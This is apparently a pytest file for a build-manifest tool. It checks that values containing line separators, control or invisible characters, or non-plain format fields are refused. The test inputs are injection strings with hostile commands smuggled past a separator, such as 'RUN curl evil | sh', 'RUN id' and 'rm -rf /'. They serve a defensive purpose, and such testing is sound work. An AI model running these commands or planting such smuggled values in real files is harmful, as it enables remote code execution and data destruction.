"""Hostile values: no control, format or separator character anywhere, and fields are only
{name} (issue 18, "values arrive literally")."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from build_graph.errors import EXIT_CONFIG
from build_graph.manifest.values import single_line
from tests.helpers import MINIMAL, one_error, write_manifest

# Each ends a line somewhere (a shell, an editor, Docker's parser) or hides what a value says.
HOSTILE = {
    "U+2028": "\u2028",
    "U+2029": "\u2029",
    "U+0085": "\u0085",
    "U+000A": "\n",
    "U+000D": "\r",
    "U+0000": "\x00",
    "U+200B": "\u200b",
    "U+202E": "\u202e",
    "U+FEFF": "\ufeff",
    "U+0009": "\t",
}


@pytest.mark.parametrize("code", HOSTILE)
def test_the_one_rule_names_the_character(code: str) -> None:
    with pytest.raises(ValueError, match=code.replace("+", r"\+")):
        single_line(f"a{HOSTILE[code]}RUN curl evil | sh")


def test_printable_unicode_is_a_value() -> None:
    assert single_line("café — naïve ✓ 中文") == "café — naïve ✓ 中文"


def _toml(char: str) -> str:
    """The character as a TOML basic-string escape (what a hostile file would hold)."""
    return f"\\u{ord(char):04X}"


@pytest.mark.parametrize("code", ["U+2028", "U+2029", "U+0085", "U+200B"])
@pytest.mark.parametrize(
    ("template", "key"),
    [
        ('build_args = {{ X = "a{c}RUN id" }}', "tiers.base.build_args.X"),
        ('description = "two{c}lines"', "tiers.base.description"),
        ('packages = ["numpy{c}"]', "tiers.base.packages.0"),
        ('tags = ["v1{c}"]', "tiers.base.tags.0"),
        ('verify = {{ smoke = ["true{c}rm -rf /"] }}', "tiers.base.verify.smoke.0"),
    ],
)
def test_separators_are_refused_in_every_value(
    tmp_path: Path, code: str, template: str, key: str
) -> None:
    line = template.format(c=_toml(HOSTILE[code]))
    message = one_error(tmp_path, MINIMAL + line + "\n", key)
    assert code in message


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('python = "3.11\\n"', "versions.python"),  # '$' matched before a trailing newline
        ('python = "3.11"\nextra = "1.0\\n"', "versions"),
    ],
)
def test_a_trailing_newline_fails_every_grammar(tmp_path: Path, text: str, key: str) -> None:
    message = one_error(tmp_path, MINIMAL.replace('python = "3.11"', text), key)
    assert "not a" in message


def test_a_tier_name_with_a_newline_is_refused(tmp_path: Path) -> None:
    text = MINIMAL.replace("[tiers.base]", '[tiers."base\\n"]')
    message = one_error(tmp_path, text, 'tiers."base\\n".[key]')
    assert "is not a valid name" in message and "U+000A" in message


def test_version_keys_are_field_names(tmp_path: Path) -> None:
    text = MINIMAL + '\n[variants.a]\nversions = { "x\\u2028y" = "1" }\n'
    message = one_error(tmp_path, text, 'variants.a.versions."x\\u2028y".[key]')
    assert "is not a valid field name" in message


@pytest.mark.parametrize(
    "field",
    ["{python:d}", "{python!r}", "{python.x}", "{python[0]}", "{python:>{python}}", "{0}", "{}"],
)
@pytest.mark.parametrize(
    ("template", "key"),
    [
        ('tags = ["v-{f}"]', "tiers.base.tags"),
        ('build_args = {{ X = "{f}" }}', "tiers.base.build_args.X"),
        ('description = "py {f}"', "tiers.base.description"),
    ],
)
def test_only_plain_name_fields(tmp_path: Path, field: str, template: str, key: str) -> None:
    message = one_error(tmp_path, MINIMAL + template.format(f=field) + "\n", key)
    assert "only {name} is allowed" in message


def test_a_field_in_a_requirement_is_only_a_name(tmp_path: Path) -> None:
    message = one_error(
        tmp_path, MINIMAL + 'packages = ["x=={python!r}"]\n', "tiers.base.packages.0"
    )
    assert "only {name} is allowed" in message


def test_an_unpaired_brace_says_how_to_write_one(tmp_path: Path) -> None:
    message = one_error(tmp_path, MINIMAL + 'description = "a {python"\n', "tiers.base.description")
    assert "write a field as {name}" in message


def test_check_reports_a_format_spec_without_a_traceback(tmp_path: Path) -> None:
    manifest = write_manifest(tmp_path, MINIMAL + 'tags = ["{python:d}"]\n')
    result = subprocess.run(
        [sys.executable, "-m", "build_graph", "check", "--manifest", str(manifest)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == EXIT_CONFIG
    assert "Traceback" not in result.stderr
    assert (
        f"{manifest}: tiers.base.tags: '{{python:d}}': {{python:d}} is not a field" in result.stderr
    )
